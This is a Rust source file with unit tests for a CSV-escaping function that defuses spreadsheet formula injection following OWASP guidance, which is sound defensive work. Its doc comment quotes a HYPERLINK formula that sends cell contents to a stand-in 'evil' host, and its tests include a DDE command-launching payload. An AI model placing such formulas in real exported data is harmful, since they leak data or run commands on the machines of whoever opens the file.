//! CSV fields a spreadsheet will not run.
//!
//! A field starting with `=`, `+`, `-` or `@` (or a tab or carriage return
//! before one) is a formula to Excel, LibreOffice and Google Sheets:
//! `fn==HYPERLINK("http://evil/?"&A1)` in a profile would run when the CSV
//! is opened. As OWASP's CSV-injection rule says, such a field is written
//! with a `'` before it, inside quotes; a number (`-12`, `+3.5`) stays a
//! number.

/// `text` as one CSV field: quoted when it holds a separator, a quote or a
/// line break, and defused when a spreadsheet would take it for a formula.
pub fn field(text: &str) -> String {
    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']) && text.parse::<f64>().is_err();
    if formula {
        format!("\"'{}\"", text.replace('"', "\"\""))
    } else if text.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text.to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::field;

    #[test]
    fn formulas_are_defused_and_numbers_kept() {
        assert_eq!(field("main"), "main");
        assert_eq!(field("a,b"), "\"a,b\"");
        assert_eq!(field("=1+2"), "\"'=1+2\"");
        assert_eq!(field("=HYPERLINK(\"x\")"), "\"'=HYPERLINK(\"\"x\"\")\"");
        assert_eq!(field("@SUM(A1)"), "\"'@SUM(A1)\"");
        assert_eq!(field("+cmd|' /C calc'!A0"), "\"'+cmd|' /C calc'!A0\"");
        assert_eq!(field("\t=1"), "\"'\t=1\"");
        assert_eq!(field("-12"), "-12");
        assert_eq!(field("+3.5"), "+3.5");
        assert_eq!(field("-x"), "\"'-x\"");
    }
}
